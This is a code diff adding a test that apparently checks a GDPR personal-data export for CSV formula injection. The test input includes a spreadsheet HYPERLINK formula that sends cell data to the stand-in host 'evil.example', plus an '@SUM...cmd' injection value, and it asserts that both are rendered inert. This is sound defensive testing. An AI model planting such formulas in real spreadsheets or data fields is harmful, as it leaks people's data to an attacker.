@@ -1,5 +1,6 @@
 """A person downloads all of their data (Art. 15/20 GDPR) and erasure removes it everywhere."""
 
+import csv
 import io
 import json
 import uuid
@@ -52,6 +53,25 @@ def test_learner_downloads_csv_files_in_a_zip(client, make_user):
     assert {"data.json", "account.csv", "learning_records.csv"} <= set(archive.namelist())
     assert "lea@example.org" in archive.read("account.csv").decode()
     assert COURSE.iri in archive.read("learning_records.csv").decode()
+
+
+def test_csv_files_in_the_zip_hold_formula_text_inert(client, make_user, make_unit):
+    formula = '=HYPERLINK("https://evil.example/?"&A1;"Details")'
+    unit = make_unit("@SUM(1+1)*cmd")
+    lea = make_user("lea@example.org", first_name=formula, last_name="-Muster", org_unit=unit)
+    log_in(client, lea)
+
+    archive = zipfile.ZipFile(io.BytesIO(client.get("/me/export.zip").content))
+
+    for name in archive.namelist():
+        if name.endswith(".csv"):
+            rows = csv.reader(io.StringIO(archive.read(name).decode()))
+            assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r)
+    account = next(csv.DictReader(io.StringIO(archive.read("account.csv").decode())))
+    assert (account["first_name"], account["last_name"]) == ("'" + formula, "'-Muster")
+    assert account["org_unit"] == "'@SUM(1+1)*cmd"
+    # The JSON copy holds the exact values.
+    assert json.loads(archive.read("data.json"))["account"][0]["first_name"] == formula
 
 
 def test_export_needs_login_and_a_known_format(client, make_user):
